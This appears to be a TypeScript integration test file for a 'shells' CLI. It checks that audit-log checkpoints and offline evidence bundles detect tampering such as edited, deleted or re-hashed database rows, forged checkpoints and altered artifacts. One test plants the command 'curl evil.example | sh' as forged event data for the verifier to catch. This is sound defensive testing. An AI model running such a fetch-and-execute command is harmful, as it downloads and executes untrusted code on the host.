import type { Checkpoint, EvidenceBundle, Run } from "@l1fe/shells";
import { activityEventHash, GENESIS_HASH } from "@shells/contract";
import Database from "better-sqlite3";
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "./harness.js";

const repoRoot = fileURLToPath(new URL("../..", import.meta.url));
const cliBin = join(repoRoot, "apps/cli/bin/shells.js");
const work = mkdtempSync(join(tmpdir(), "shells-evidence-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

interface CliRun {
  exitCode: number | null;
  stdout: string;
  stderr: string;
}

/** Runs the built `shells` binary against `server`, in a scratch directory for its files. */
function shells(server: TestServer, args: string[]): Promise<CliRun> {
  return runCli(args, { SHELLS_URL: server.url, SHELLS_API_TOKEN: server.token });
}

/** Runs the built `shells` binary pointed at no server at all (a closed loopback port). */
function offline(args: string[]): Promise<CliRun> {
  return runCli(args, { SHELLS_URL: "http://127.0.0.1:9", SHELLS_API_TOKEN: "sk_none" });
}

function runCli(args: string[], env: Record<string, string>): Promise<CliRun> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [cliBin, ...args], {
      cwd: work,
      env: { ...process.env, ...env },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    child.on("error", reject);
    child.on("close", (exitCode) => resolve({ exitCode, stdout, stderr }));
    child.stdin.end();
  });
}

/** Some history: a shell created, commands run, an action, the shell deleted. */
async function makeHistory(server: TestServer, name: string): Promise<void> {
  const created = await shells(server, ["create", "--name", name, "--json"]);
  expect(created.exitCode, created.stderr).toBe(0);
  await shells(server, ["exec", name, "--", "echo", "one"]);
  await shells(server, ["action", name, "restart"]);
  await shells(server, ["exec", name, "--", "echo", "two"]);
  await shells(server, ["rm", name, "--confirm", name]);
}

/** Runs `statements` on the server's SQLite file, as someone with write access to the store would. */
function tamper(server: TestServer, change: (db: Database.Database) => void): void {
  const db = new Database(join(server.dataDir, "shells.db"));
  try {
    change(db);
  } finally {
    db.close();
  }
}

describe("shells audit verify --checkpoint", () => {
  let server: TestServer | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });

  /** A server with some history and a checkpoint of it saved to a file outside the server. */
  async function withSavedCheckpoint(): Promise<{
    server: TestServer;
    file: string;
    saved: Checkpoint;
  }> {
    server = await startTestServer();
    await makeHistory(server, "first");
    const file = join(work, `checkpoint-${Date.now()}.json`);
    const saved = await shells(server, ["audit", "checkpoint", "-o", file]);
    expect(saved.exitCode, saved.stderr).toBe(0);
    expect(saved.stdout).toContain("later: shells audit verify --checkpoint");
    return { server, file, saved: JSON.parse(readFileSync(file, "utf8")) as Checkpoint };
  }

  it("verifies a history that only grew since the saved checkpoint", async () => {
    const { server, file, saved } = await withSavedCheckpoint();
    await makeHistory(server, "second");
    const run = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.stdout).toContain(
      `ok: the history still begins with the ${saved.treeSize} events of checkpoint ${saved.id}`,
    );
    expect(run.stdout).toContain("checked: consistency proof from the saved checkpoint");
    const json = JSON.parse(
      (await shells(server, ["audit", "verify", "--checkpoint", file, "--json"])).stdout,
    );
    expect(json).toMatchObject({ ok: true, problem: null, saved: { id: saved.id } });
    expect(json.current.treeSize).toBeGreaterThan(saved.treeSize);
    expect(json.historySize).toBe(json.current.treeSize);
  });

  it("names the event whose row was edited in the SQLite file", async () => {
    const { server, file } = await withSavedCheckpoint();
    let victim!: { id: string; seq: number };
    tamper(server, (db) => {
      victim = db
        .prepare("SELECT id, seq FROM activity WHERE action = 'shell.action.restart'")
        .get() as typeof victim;
      db.prepare("UPDATE activity SET outcome = 'failure' WHERE id = ?").run(victim.id);
    });
    const run = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain(
      `tampered: rewritten: event ${victim.id} (seq ${victim.seq}, shell.action.restart) was changed after it was recorded`,
    );
  });

  it("names the first event missing when a row inside the checkpoint was deleted", async () => {
    const { server, file } = await withSavedCheckpoint();
    tamper(server, (db) => db.prepare("DELETE FROM activity WHERE seq = 3").run());
    const run = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toMatch(
      /tampered: removed: event seq 3 is missing from the history \(the next one there is seq 4, \S+\)/,
    );
  });

  it("detects a cut tail, even when the tree and the checkpoints were cut with it", async () => {
    const { server, file, saved } = await withSavedCheckpoint();
    const keep = saved.treeSize - 2;
    tamper(server, (db) => db.prepare("DELETE FROM activity WHERE seq > ?").run(keep));
    const cut = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(cut.exitCode).toBe(1);
    expect(cut.stderr).toContain(
      `tampered: truncated: the saved checkpoint covers ${saved.treeSize} events, the history has ${keep}; events from seq ${keep + 1} on were removed`,
    );
    // The plain chain check cannot see it: what is left still links.
    expect((await shells(server, ["audit", "verify"])).exitCode).toBe(0);

    // Every stored subtree that covers a removed event goes too, and every checkpoint.
    tamper(server, (db) => {
      db.prepare("DELETE FROM activity_tree WHERE (idx + 1) * (1 << level) > ?").run(keep);
      db.prepare("DELETE FROM audit_checkpoints").run();
    });
    const covered = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(covered.exitCode).toBe(1);
    expect(covered.stderr).toContain("tampered: truncated: the server's tree now holds");
  });

  it("detects an edit whose chain was re-hashed and whose tree was rebuilt from the edited rows", async () => {
    const { server, file } = await withSavedCheckpoint();
    const rows = (() => {
      let all: Record<string, unknown>[] = [];
      tamper(server, (db) => {
        all = db.prepare("SELECT * FROM activity ORDER BY seq").all() as Record<string, unknown>[];
      });
      return all;
    })();
    let prevHash = GENESIS_HASH;
    const rewritten: { id: string; action: string; prevHash: string; hash: string }[] = [];
    for (const row of rows) {
      const action =
        row.action === "shell.action.restart" ? "shell.action.logs" : (row.action as string);
      const hash = await activityEventHash({
        seq: row.seq as number,
        orgId: row.org_id as string,
        actor: JSON.parse(row.actor as string),
        action,
        target: row.target_type
          ? { type: row.target_type as string, id: row.target_id as string }
          : null,
        outcome: row.outcome as "success",
        details: JSON.parse(row.details as string),
        time: row.time as string,
        prevHash,
      });
      rewritten.push({ id: row.id as string, action, prevHash, hash });
      prevHash = hash;
    }
    tamper(server, (db) => {
      const update = db.prepare(
        "UPDATE activity SET action = ?, prev_hash = ?, hash = ? WHERE id = ?",
      );
      for (const r of rewritten) update.run(r.action, r.prevHash, r.hash, r.id);
      db.prepare("DELETE FROM activity_tree").run();
      db.prepare("DELETE FROM audit_checkpoints").run();
    });
    await makeHistory(server, "after"); // the server rebuilds its tree from the edited rows
    expect((await shells(server, ["audit", "verify"])).exitCode).toBe(0);
    const run = await shells(server, ["audit", "verify", "--checkpoint", file]);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain("tampered: rewritten: the server's newest checkpoint");
    expect(run.stderr).toContain("does not extend the saved one");
  });

  it("refuses a checkpoint file whose contents were altered, and one that is not a checkpoint", async () => {
    const { server, file, saved } = await withSavedCheckpoint();
    const forged = join(work, "forged.json");
    writeFileSync(forged, JSON.stringify({ ...saved, treeSize: saved.treeSize - 1 }));
    const run = await shells(server, ["audit", "verify", "--checkpoint", forged]);
    expect(run.exitCode).toBe(1);
    expect(run.stderr).toContain("the saved checkpoint does not verify");
    writeFileSync(forged, JSON.stringify({ treeSize: 3 }));
    const bad = await shells(server, ["audit", "verify", "--checkpoint", forged]);
    expect(bad.exitCode).toBe(2);
    expect(bad.stderr).toContain("is not a signed checkpoint");
    expect((await shells(server, ["audit", "verify", "--checkpoint", file])).exitCode).toBe(0);
  });
});

describe("shells evidence on a container run", () => {
  let server: TestServer;
  let run: Run;
  const bundleFile = join(work, "bundle.json");
  const keysFile = join(work, "keys.json");

  beforeAll(async () => {
    server = await startTestServer({ backend: "container" });
    const started = await shells(server, [
      "run",
      "--json",
      "-l",
      "python",
      "--artifact",
      "out/*.{png,svg}",
      "-c",
      [
        "import os",
        "os.makedirs('out', exist_ok=True)",
        "open('out/chart.svg', 'w').write('<svg/>')",
        "open('out/chart.png', 'wb').write(bytes(range(256)))",
        "open('out/notes.txt', 'w').write('not an artifact')",
        "print('done')",
        "shells.result({'rows': 3})",
      ].join("\n"),
    ]);
    expect(started.exitCode, started.stderr).toBe(0);
    run = JSON.parse(started.stdout.trim().split("\n").at(-1) as string) as Run;
  }, 120_000);
  afterAll(async () => {
    await server?.close();
  });

  it("keeps what a brace glob names, with each artifact's SHA-256", () => {
    expect(run.status).toBe("succeeded");
    expect(run.artifacts.map((a) => a.path).sort()).toEqual(["out/chart.png", "out/chart.svg"]);
    for (const artifact of run.artifacts) expect(artifact.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("exports a bundle that verifies with no server, against the saved published keys", async () => {
    const exported = await shells(server, [
      "evidence",
      "export",
      run.id,
      "-o",
      bundleFile,
      "--with-artifacts",
    ]);
    expect(exported.exitCode, exported.stderr).toBe(0);
    expect(exported.stdout).toContain("2 artifacts in the manifest, 2 with their bytes");
    const bundle = JSON.parse(readFileSync(bundleFile, "utf8")) as EvidenceBundle;
    const actions = bundle.events.map((e) => e.action);
    expect(actions).toEqual(
      expect.arrayContaining([
        "run.start",
        "shell.create",
        "shell.exec",
        "shell.delete",
        "run.finish",
      ]),
    );
    expect(bundle.proofs).toHaveLength(bundle.events.length);
    expect(bundle.workspaceChanges?.changes.map((c) => `${c.change} ${c.path}`)).toEqual([
      "added out/chart.png",
      "added out/chart.svg",
      "added out/notes.txt",
    ]);
    const changes = await shells(server, ["runs", "changes", run.id]);
    expect(changes.stdout).toContain("+ out/notes.txt");
    expect((await shells(server, ["audit", "keys", "-o", keysFile])).exitCode).toBe(0);

    const verified = await offline(["evidence", "verify", bundleFile, "--keys", keysFile]);
    expect(verified.exitCode, verified.stderr).toBe(0);
    expect(verified.stdout).toContain(`ok: evidence of run ${run.id} (succeeded) holds`);
    expect(verified.stdout).toContain(`inclusion of ${bundle.events.length} events`);
    expect(verified.stdout).toContain("bytes of 2 artifacts against their hashes");
    expect(verified.stdout).toContain("workspace changes (3) against the run.finish event");
    expect(verified.stdout).toContain("is one you trust");
    const unpinned = await offline(["evidence", "verify", bundleFile]);
    expect(unpinned.exitCode).toBe(0);
    expect(unpinned.stdout).toContain(
      "came with the bundle: compare it with the server's published keys",
    );
  });

  /** Writes a changed copy of the bundle and verifies it. */
  async function verifyChanged(change: (bundle: EvidenceBundle) => void, args: string[] = []) {
    const bundle = JSON.parse(readFileSync(bundleFile, "utf8")) as EvidenceBundle;
    change(bundle);
    const file = join(work, "changed.json");
    writeFileSync(file, JSON.stringify(bundle));
    return offline(["evidence", "verify", file, ...args]);
  }

  it("names the first thing that does not hold in an altered bundle", async () => {
    const exec = await verifyChanged((b) => {
      const event = b.events.find((e) => e.action === "shell.exec")!;
      event.details = { ...event.details, command: "curl evil.example | sh" };
    });
    expect(exec.exitCode).toBe(1);
    expect(exec.stderr).toMatch(/invalid: event \S+ \(seq \d+\) was changed after it was recorded/);

    const bytes = await verifyChanged((b) => {
      b.artifacts[0]!.contentBase64 = Buffer.from("other bytes").toString("base64");
    });
    expect(bytes.exitCode).toBe(1);
    expect(bytes.stderr).toContain("bytes do not match the recorded SHA-256");

    const manifest = await verifyChanged((b) => {
      b.artifacts[0]!.sha256 = "0".repeat(64);
    });
    expect(manifest.stderr).toContain(
      "artifact manifest differs from the one the run.finish event recorded",
    );

    const exitCode = await verifyChanged((b) => {
      b.run.exitCode = 0 === b.run.exitCode ? 1 : 0;
    });
    expect(exitCode.exitCode).toBe(1);
    expect(exitCode.stderr).toContain("differs from its run.finish event");

    const hidden = await verifyChanged((b) => {
      b.workspaceChanges!.changes = b.workspaceChanges!.changes.filter(
        (c) => c.path !== "out/notes.txt",
      );
    });
    expect(hidden.stderr).toContain("workspace changes differ");

    const result = await verifyChanged((b) => {
      b.run.result = { rows: 4 };
    });
    expect(result.stderr).toContain("result differs from the one its run.finish event recorded");

    const root = await verifyChanged((b) => {
      b.checkpoint.rootHash = "f".repeat(64);
    });
    expect(root.stderr).toContain("the signature does not match");

    const dropped = await verifyChanged((b) => {
      b.proofs = b.proofs.slice(1);
    });
    expect(dropped.stderr).toContain("proofs");

    const pinned = await verifyChanged(() => undefined, ["--key-id", "a".repeat(64)]);
    expect(pinned.exitCode).toBe(1);
    expect(pinned.stderr).toContain(`not ${"a".repeat(64)}`);

    // Another server's keys do not vouch for this one's checkpoint.
    const elsewhere = await startTestServer();
    const otherKeys = join(work, "other-keys.json");
    try {
      expect((await shells(elsewhere, ["audit", "keys", "-o", otherKeys])).exitCode).toBe(0);
    } finally {
      await elsewhere.close();
    }
    const untrusted = await verifyChanged(() => undefined, ["--keys", otherKeys]);
    expect(untrusted.exitCode).toBe(1);
    expect(untrusted.stderr).toContain("not among the trusted keys");
  });
});
